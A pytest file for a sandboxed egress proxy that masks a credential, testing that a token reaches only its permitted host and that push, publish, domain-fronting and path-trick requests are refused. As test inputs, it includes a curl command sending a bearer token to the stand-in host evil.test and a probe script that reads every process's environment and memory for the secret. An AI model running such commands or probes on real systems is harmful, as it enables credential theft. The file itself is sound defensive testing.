"""Masked credentials and request rules in a real bubblewrap sandbox (TLS terminated by the proxy).

Servers listen on the host's 127.0.0.1 with a certificate of a test CA that
the proxy is given as its upstream trust (``CORRAL_EGRESS_UPSTREAM_CA``);
the sandbox trusts only the per-run CA corral draws (the merged bundle).
The secret server accepts the real secret only; every request's headers are
recorded, so the tests can check where the secret went.
"""

from __future__ import annotations

import base64
import glob
import http.server
import json
import os
import shutil
import socket
import ssl
import subprocess
import sys
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from corral.policy import Credential

from .conftest import Upstream
from .test_sandbox import World, _ok

pytestmark = pytest.mark.backend("bubblewrap")
pytest.importorskip("cryptography", reason="masked credentials need the cryptography package")

SECRET = "ghp_REALsecretVALUE0123456789abcdef"
CURL = shutil.which("curl")
GIT = shutil.which("git")
NPM = shutil.which("npm")


class _SecretHandler(http.server.BaseHTTPRequestHandler):
    """Answers 401 without credentials, 403 with wrong ones, 200 (or git) with SECRET."""

    protocol_version = "HTTP/1.1"
    server: Any

    def log_message(self, format: str, *args: Any) -> None:
        del format, args

    def _authorized(self) -> bool | None:
        value = self.headers.get("Authorization")
        if value is None:
            return None
        scheme, _, rest = value.partition(" ")
        if scheme.lower() == "bearer":
            return rest == SECRET
        if scheme.lower() == "basic":
            return base64.b64decode(rest).decode().partition(":")[2] == SECRET
        return False

    def _reply(self, status: int, body: bytes, headers: tuple[tuple[str, str], ...] = ()) -> None:
        self.send_response(status)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _handle(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            while True:
                size = int(self.rfile.readline().strip(), 16)
                chunk = self.rfile.read(size) if size else b""
                self.rfile.readline()
                body += chunk
                if not size:
                    break
        with self.server.lock:
            self.server.seen.append(
                (self.command, self.path, {k.lower(): v for k, v in self.headers.items()}, body)
            )
        ok = self._authorized()
        if ok is None:
            self._reply(401, b"who are you\n", (("WWW-Authenticate", 'Basic realm="t"'),))
        elif not ok:
            self._reply(403, b"wrong secret\n")
        elif ".git/" in self.path:
            self._git(body)
        else:
            self._reply(200, f"authorized {self.command} {self.path}\n".encode())

    do_GET = do_POST = do_PUT = _handle

    def _git(self, body: bytes) -> None:
        path, _, query = self.path.partition("?")
        env = {
            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
            "GIT_PROJECT_ROOT": self.server.root,
            "GIT_HTTP_EXPORT_ALL": "1",
            "PATH_INFO": path,
            "QUERY_STRING": query,
            "REQUEST_METHOD": self.command,
            "CONTENT_TYPE": self.headers.get("Content-Type", ""),
            "CONTENT_LENGTH": str(len(body)),
            "REMOTE_USER": "tester",
            "GIT_CONFIG_NOSYSTEM": "1",
            "HOME": self.server.root,
        }
        out = subprocess.run(
            ["git", "http-backend"], input=body, env=env, capture_output=True, check=False
        ).stdout
        head, _, payload = out.partition(b"\r\n\r\n")
        status, headers = 200, []
        for line in head.decode().split("\r\n"):
            name, _, value = line.partition(": ")
            if name.lower() == "status":
                status = int(value.split()[0])
            elif name:
                headers.append((name, value))
        self._reply(status, payload, tuple(headers))


class _TLSServer(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, context: ssl.SSLContext, root: str) -> None:
        super().__init__(("127.0.0.1", 0), _SecretHandler)
        self.socket.settimeout(1.0)
        self.context = context
        self.root = root
        self.seen: list[tuple[str, str, dict[str, str], bytes]] = []
        self.lock = threading.Lock()
        self.port = self.server_address[1]
        self.thread = threading.Thread(target=self.serve_forever, args=(0.02,), daemon=True)
        self.thread.start()

    def finish_request(self, request: Any, client_address: Any) -> None:
        request.settimeout(10)
        try:
            tls = self.context.wrap_socket(request, server_side=True)
        except OSError:
            return
        with tls:
            super().finish_request(tls, client_address)

    def stop(self) -> None:
        self.shutdown()
        self.server_close()
        self.thread.join(5)

    def everything_seen(self) -> bytes:
        with self.lock:
            return repr(self.seen).encode()


@pytest.fixture(scope="module")
def tls_files(tmp_path_factory: Any) -> tuple[str, str]:
    """(test CA certificate, server chain with key) for the test names, made here."""
    from corral.egress._tls import leaf, make_ca

    where = tmp_path_factory.mktemp("upstream-ca")
    ca_cert, ca_key = make_ca()
    ca_file, server_file = where / "ca.pem", where / "server.pem"
    ca_file.write_bytes(ca_cert)
    names = ("api.example.test", "registry.example.test", "git.test", "evil.test")
    server_file.write_bytes(leaf(ca_cert, ca_key, *names))
    return str(ca_file), str(server_file)


@pytest.fixture
def servers(tmp_path: Any, tls_files: tuple[str, str]) -> Iterator[tuple[_TLSServer, _TLSServer]]:
    """The secret's host (api.example.test) and another allowed host (evil.test)."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(tls_files[1])
    root = tmp_path / "repos"
    root.mkdir()
    subprocess.run(["git", "init", "-q", "--bare", str(root / "repo.git")], check=True)
    seed = tmp_path / "seed"
    subprocess.run(["git", "init", "-q", str(seed)], check=True)
    (seed / "README").write_text("masked\n")
    git = ["git", "-C", str(seed), "-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run([*git, "add", "README"], check=True)
    subprocess.run([*git, "commit", "-qm", "seed"], check=True)
    subprocess.run([*git, "push", "-q", str(root / "repo.git"), "HEAD:refs/heads/main"], check=True)
    subprocess.run(
        ["git", "-C", str(root / "repo.git"), "symbolic-ref", "HEAD", "refs/heads/main"], check=True
    )
    subprocess.run(
        ["git", "-C", str(root / "repo.git"), "config", "http.receivepack", "true"], check=True
    )
    good, other = _TLSServer(context, str(root)), _TLSServer(context, str(root))
    yield good, other
    good.stop()
    other.stop()


@pytest.fixture
def world(tmp_path: Any, upstream: Upstream, evil: Upstream) -> Iterator[World]:
    made = World(str(tmp_path), upstream, evil)
    with open(made.hosts_file, "a") as f:
        f.write("127.0.0.1 registry.example.test\n")
    yield made
    assert not any(t.name == "corral-egress" for t in threading.enumerate())


def _policy(world: World, good: _TLSServer, other: _TLSServer, **network: Any) -> Any:
    allow = (
        *world.allow,
        "evil.test",
        "registry.example.test",
        f"127.0.0.1:{good.port}",
        f"127.0.0.1:{other.port}",
    )
    policy = world.policy(allow=allow, deny=())
    credential = Credential(
        name="GH_TOKEN",
        source="env:REAL_GH_TOKEN",
        commands=("*",),
        hosts=("api.example.test", "git.test"),
        mode="mask",
    )
    # evil.test is terminated too (a rule names it): the placeholder reaches it, never the secret
    network.setdefault("allow_requests", ("* evil.test/*",))
    return policy.replace(
        credentials=(credential,),
        network=policy.network.replace(**network),
    )


def _environ(world: World, tls_files: tuple[str, str]) -> dict[str, str]:
    return {
        **world.environ,
        "REAL_GH_TOKEN": SECRET,
        "CORRAL_EGRESS_UPSTREAM_CA": tls_files[0],
        "GIT_CONFIG_NOSYSTEM": "1",
    }


@pytest.mark.skipif(CURL is None or GIT is None, reason="curl and git are needed")
def test_a_masked_credential_reaches_only_its_hosts_through_curl_python_and_git(
    world: World, servers: tuple[_TLSServer, _TLSServer], tls_files: tuple[str, str]
) -> None:
    good, other = servers
    script = os.path.join(world.workspace, "fetch.py")
    with open(script, "w") as f:
        f.write(
            "import os, sys, urllib.request\n"
            "req = urllib.request.Request(sys.argv[1], headers={'Authorization': "
            "'Bearer ' + os.environ['GH_TOKEN']})\n"
            "print(urllib.request.urlopen(req, timeout=10).read().decode(), end='')\n"
            "if len(sys.argv) > 2:\n"
            "    sys.stdout.flush(); open(sys.argv[2], 'w').close(); __import__('time').sleep(60)\n"
        )
    # the sandbox's view of its secret: environment, every process, its files, its memory
    probe = os.path.join(world.workspace, "probe.py")
    with open(probe, "w") as f:
        f.write(
            "import glob, os, sys\n"
            "needle = (sys.argv[1] + sys.argv[2]).encode()\n"
            "hits = [k.decode() for k, v in os.environb.items() if needle in v]\n"
            "for path in glob.glob('/proc/[0-9]*/environ'):\n"
            "    try:\n"
            "        hits += [path] if needle in open(path, 'rb').read() else []\n"
            "    except OSError: pass\n"
            "for path in glob.glob('/proc/[0-9]*/maps'):\n"
            "    pid = path.split('/')[2]\n"
            "    if pid == str(os.getpid()): continue\n"
            "    try:\n"
            "        mem = open(f'/proc/{pid}/mem', 'rb', 0)\n"
            "        for line in open(path):\n"
            "            lo, hi = (int(x, 16) for x in line.split()[0].split('-'))\n"
            "            if 'r' not in line.split()[1] or hi - lo > 1 << 28: continue\n"
            "            try:\n"
            "                mem.seek(lo); hits += [pid] if needle in mem.read(hi - lo) else []\n"
            "            except (OSError, ValueError, OverflowError): pass\n"
            "    except OSError: pass\n"
            "for root in ('/tmp', os.getcwd(), os.environ.get('HOME', '/')):\n"
            "    for d, _, files in os.walk(root):\n"
            "        for n in files:\n"
            "            try:\n"
            "                hits += [n] if needle in open(os.path.join(d, n), 'rb').read() else []\n"
            "            except OSError: pass\n"
            "print('hits:', sorted(set(hits)))\n"
        )
    # in two halves: no process but the probe itself (skipped) holds the whole needle
    needle_script = f"{sys.executable} -I {probe} '{SECRET[:10]}' '{SECRET[10:]}'"
    commands = " && ".join(
        [
            # a process that used the credential stays alive while the probe searches
            f"( {sys.executable} -I {script} https://api.example.test:{good.port}/held "
            "/tmp/held-ready > /tmp/held.out & )",
            "while [ ! -e /tmp/held-ready ]; do sleep 0.1; done",
            f'curl -sS -H "Authorization: Bearer $GH_TOKEN" '
            f"https://api.example.test:{good.port}/curl",
            f"{sys.executable} -I {script} https://api.example.test:{good.port}/python",
            f"git clone -q https://x:$GH_TOKEN@git.test:{good.port}/repo.git /tmp/clone",
            "cat /tmp/clone/README",
            # a host the credential does not name gets the placeholder, never the secret
            f'curl -sS -H "Authorization: Bearer $GH_TOKEN" https://evil.test:{other.port}/x'
            " ; echo",
            needle_script,
            # the control: the same search finds the placeholder (in the lingering process too)
            f'{sys.executable} -I {probe} "${{GH_TOKEN%${{GH_TOKEN#??????????}}}}" '
            '"${GH_TOKEN#??????????}"',
            'case "$GH_TOKEN" in corral_masked_*) echo placeholder;; esac',
        ]
    )
    outcome = world.run(commands, _policy(world, good, other), _environ(world, tls_files))
    out = _ok(outcome).splitlines()
    assert out[:3] == [
        "authorized GET /curl",
        "authorized GET /python",
        "masked",
    ], out
    assert out[3] == "wrong secret", out  # evil.test got the placeholder
    assert out[4:6] == ["", "hits: []"], out
    control = out[6]
    assert control.startswith("hits: [") and "GH_TOKEN" in control, control
    assert len(eval(control[6:])) >= 3, control  # env, /proc/*/environ, memory of processes
    assert out[7:] == ["placeholder"], out
    # the secret reached the named host (curl, python, git) and nowhere else
    assert SECRET.encode() in good.everything_seen()
    assert SECRET.encode() not in other.everything_seen()
    assert SECRET not in outcome.text() + outcome.text("stderr")
    assert SECRET not in json.dumps(outcome.to_json(include_output=True))
    methods = {(a.host, a.method) for a in outcome.network}
    assert ("api.example.test", "GET") in methods  # requests inside the tunnel are logged
    assert outcome.violations == ()
    assert not glob.glob("/tmp/corral-leaf*")


def _deny_policy(world: World, good: _TLSServer, other: _TLSServer) -> Any:
    return _policy(
        world,
        good,
        other,
        deny_requests=("POST */git-receive-pack", "PUT registry.example.test/*"),
    )


@pytest.mark.skipif(GIT is None, reason="git is needed")
def test_request_rules_refuse_git_push_but_not_clone(
    world: World, servers: tuple[_TLSServer, _TLSServer], tls_files: tuple[str, str]
) -> None:
    good, other = servers
    url = f"https://x:$GH_TOKEN@git.test:{good.port}/repo.git"
    outcome = world.run(
        f"git clone -q {url} /tmp/c && cd /tmp/c && echo more >> README && "
        "git -c user.name=t -c user.email=t@t commit -qam more && git push -q origin HEAD:main",
        _deny_policy(world, good, other),
        _environ(world, tls_files),
    )
    assert outcome.returncode != 0
    assert "POST */git-receive-pack" in outcome.text("stderr") or any(
        "git-receive-pack" in v.rule for v in outcome.violations
    )
    (violation,) = [v for v in outcome.violations if "git-receive-pack" in v.rule]
    assert violation.kind == "network"
    # nothing was pushed: the server never saw the POST, the repository is unchanged
    assert not any(m == "POST" and "receive-pack" in p for m, p, _h, _b in good.seen)
    log = subprocess.run(
        ["git", "-C", os.path.join(good.root, "repo.git"), "log", "--oneline", "main"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert len(log.splitlines()) == 1


@pytest.mark.skipif(NPM is None, reason="npm is needed")
def test_request_rules_refuse_npm_publish(
    world: World, servers: tuple[_TLSServer, _TLSServer], tls_files: tuple[str, str]
) -> None:
    good, other = servers
    package = os.path.join(world.workspace, "pkg")
    os.makedirs(package)
    with open(os.path.join(package, "package.json"), "w") as f:
        json.dump({"name": "corral-probe", "version": "1.0.0"}, f)
    registry = f"https://registry.example.test:{good.port}/"
    with open(os.path.join(package, ".npmrc"), "w") as f:
        f.write(f"registry={registry}\n//registry.example.test:{good.port}/:_authToken=x\n")
    outcome = world.run(
        f"cd {package} && npm publish --registry {registry} 2>&1; echo exit=$?",
        _deny_policy(world, good, other),
        {**_environ(world, tls_files), "npm_config_cache": "/tmp/npm-cache"},
    )
    assert "exit=0" not in outcome.text(), outcome.text()
    assert any(
        v.kind == "network" and "PUT registry.example.test/*" in v.rule for v in outcome.violations
    ), (outcome.violations, outcome.text())
    assert not any(m == "PUT" for m, _p, _h, _b in good.seen)


# ---------------------------------------------------------------- the proxy alone, on loopback
class _Terminating:
    """An EgressProxy with a masked credential for api.example.test, on the host's loopback."""

    def __init__(self, good: _TLSServer, upstream_ca: str | None, **rules: Any) -> None:
        from corral.egress._resolve import StaticResolver
        from corral.egress._rules import MaskSpec, RequestPolicy
        from corral.egress._server import EgressProxy
        from corral.egress._tls import Terminator, make_ca
        from corral.egress.allowlist import Allowlist

        self.ca = make_ca()
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen(16)
        self.port = listener.getsockname()[1]
        mask = MaskSpec(
            name="GH",
            placeholder="corral_masked_x",
            secret=SECRET,
            hosts=("api.example.test",),
            query=True,
        )
        self.proxy = EgressProxy(
            allowlist=Allowlist(allow=["*.example.test", "evil.test", f"127.0.0.1:{good.port}"]),
            token="tok",
            resolver=StaticResolver(
                {n: ["127.0.0.1"] for n in ("api.example.test", "evil.test", "x.example.test")}
            ),
            requests=RequestPolicy(masks=(mask,), **rules),
            terminator=Terminator(*self.ca, upstream_ca),
        )
        self.proxy.start(listener.detach())
        self.proxy.wait_ready()

    def tunnel(self, host: str, port: int) -> ssl.SSLSocket:
        sock = socket.create_connection(("127.0.0.1", self.port), timeout=10)
        auth = base64.b64encode(b"c:tok").decode()
        sock.sendall(
            f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n"
            f"Proxy-Authorization: Basic {auth}\r\n\r\n".encode()
        )
        head = b""
        while b"\r\n\r\n" not in head:
            head += sock.recv(1)
        assert head.startswith(b"HTTP/1.1 200"), head
        context = ssl.create_default_context(cadata=self.ca[0].decode())
        return context.wrap_socket(sock, server_hostname=host)

    def close(self) -> list[Any]:
        attempts = self.proxy.close()
        assert self.proxy.error is None
        assert self.proxy.statistics()["handler_errors"] == 0
        return attempts


def _exchange(tls: ssl.SSLSocket, request: str) -> bytes:
    tls.sendall(request.encode())
    data = b""
    while True:
        chunk = tls.recv(65536)
        if not chunk:
            return data
        data += chunk


def test_the_proxy_refuses_an_upstream_it_cannot_verify_and_sends_it_nothing(
    servers: tuple[_TLSServer, _TLSServer],
) -> None:
    good, _other = servers
    proxy = _Terminating(good, upstream_ca=None)  # the system's trust: the test CA is unknown
    try:
        with proxy.tunnel("api.example.test", good.port) as tls:
            reply = _exchange(
                tls,
                "GET /x HTTP/1.1\r\nHost: api.example.test\r\nAuthorization: Bearer "
                "corral_masked_x\r\nConnection: close\r\n\r\n",
            )
    finally:
        attempts = proxy.close()
    assert reply.startswith(b"HTTP/1.1 502"), reply
    assert b"upstream-tls-failed" in reply
    assert good.seen == []  # no request, so no secret, reached the unverified server
    assert any("TLS to api.example.test" in a.error for a in attempts)


def test_a_terminated_tunnel_serves_only_its_own_host(
    servers: tuple[_TLSServer, _TLSServer], tls_files: tuple[str, str]
) -> None:
    good, _other = servers
    proxy = _Terminating(good, upstream_ca=tls_files[0])
    try:
        with proxy.tunnel("api.example.test", good.port) as tls:
            fronted = _exchange(
                tls,
                "GET /x HTTP/1.1\r\nHost: x.example.test\r\nAuthorization: Bearer "
                "corral_masked_x\r\n\r\n",
            )
        with proxy.tunnel("api.example.test", good.port) as tls:
            served = _exchange(
                tls,
                f"GET /ok?t=corral_masked_x HTTP/1.1\r\nHost: api.example.test:{good.port}\r\n"
                "Authorization: Bearer corral_masked_x\r\nConnection: close\r\n\r\n",
            )
    finally:
        attempts = proxy.close()
    assert fronted.startswith(b"HTTP/1.1 421"), fronted
    assert served.startswith(b"HTTP/1.1 200"), served
    assert served.endswith(f"authorized GET /ok?t={SECRET}\n".encode())
    assert [p for _m, p, _h, _b in good.seen] == [f"/ok?t={SECRET}"]
    assert any(a.decision == "deny" and "another host" in a.rule for a in attempts)


def test_socks5_is_refused_for_terminated_hosts(
    servers: tuple[_TLSServer, _TLSServer], tls_files: tuple[str, str]
) -> None:
    good, _other = servers
    proxy = _Terminating(good, upstream_ca=tls_files[0])
    try:
        with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as sock:
            sock.sendall(b"\x05\x01\x02")
            assert sock.recv(2) == b"\x05\x02"
            sock.sendall(b"\x01\x01c\x03tok")
            assert sock.recv(2) == b"\x01\x00"
            name = b"api.example.test"
            sock.sendall(
                b"\x05\x01\x00\x03" + bytes([len(name)]) + name + good.port.to_bytes(2, "big")
            )
            assert sock.recv(2) == b"\x05\x02"  # not allowed by the ruleset
    finally:
        attempts = proxy.close()
    assert any("use HTTPS_PROXY" in a.rule for a in attempts)
    assert good.seen == []


@pytest.mark.skipif(CURL is None, reason="curl is needed")
def test_an_sni_mismatch_from_the_sandbox_is_refused_and_recorded(
    world: World, servers: tuple[_TLSServer, _TLSServer], tls_files: tuple[str, str]
) -> None:
    _good, other = servers
    cert = os.path.join(world.workspace, "ca.pem")
    shutil.copy(tls_files[0], cert)
    port = other.port
    policy = world.policy(allow=(*world.allow, f"127.0.0.1:{port}"), deny=())
    # CONNECT api.example.test (allowed), TLS for registry.example.test: fronting
    outcome = world.run(
        f"curl -sS --cacert {cert} https://api.example.test:{port}/ok; "
        f"curl -sS --cacert {cert} --connect-to registry.example.test:{port}:"
        f"api.example.test:{port} https://registry.example.test:{port}/fronted",
        policy,
        {**world.environ, "CORRAL_EGRESS_UPSTREAM_CA": tls_files[0]},
    )
    assert outcome.returncode != 0
    assert outcome.text() == "who are you\n"  # the first request, unauthenticated, is served
    (violation,) = outcome.violations
    assert violation.kind == "network"
    assert "registry.example.test is not the tunnel's host api.example.test" in violation.rule
    assert [p for _m, p, _h, _b in other.seen] == ["/ok"]


def test_a_plain_http_request_never_carries_the_secret(upstream: Upstream) -> None:
    proxy = _Terminating(upstream, upstream_ca=None)  # type: ignore[arg-type]
    try:
        with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as sock:
            auth = base64.b64encode(b"c:tok").decode()
            sock.sendall(
                f"GET http://api.example.test:{upstream.port}/plain HTTP/1.1\r\n"
                f"Host: api.example.test\r\nProxy-Authorization: Basic {auth}\r\n"
                "Authorization: Bearer corral_masked_x\r\nConnection: close\r\n\r\n".encode()
            )
            reply = b""
            while chunk := sock.recv(65536):
                reply += chunk
    finally:
        proxy.close()
    assert reply.startswith(b"HTTP/1.1 200"), reply
    (seen,) = upstream.seen.requests
    assert seen["headers"]["authorization"] == "Bearer corral_masked_x"  # clear text: no secret


def test_path_parameters_and_fragments_do_not_slip_past_a_request_rule(
    servers: tuple[_TLSServer, _TLSServer], tls_files: tuple[str, str]
) -> None:
    """``;x`` (dropped by Tomcat-like servers before routing) and a raw ``#`` (the rules
    would judge the path before it, a server might not cut there) reach nothing."""
    good, _other = servers
    proxy = _Terminating(good, upstream_ca=tls_files[0], deny=("POST */git-receive-pack",))
    host = f"api.example.test:{good.port}"
    replies = []
    try:
        for target in ("/r.git/git-receive-pack;x", "/r.git/x#/../git-receive-pack"):
            with proxy.tunnel("api.example.test", good.port) as tls:
                replies.append(
                    _exchange(
                        tls,
                        f"POST {target} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\n"
                        "Connection: close\r\n\r\n",
                    )
                )
    finally:
        proxy.close()
    assert replies[0].startswith(b"HTTP/1.1 403"), replies[0]
    assert b"network.denyRequests: POST */git-receive-pack" in replies[0]
    assert replies[1].startswith(b"HTTP/1.1 400"), replies[1]
    assert good.seen == []
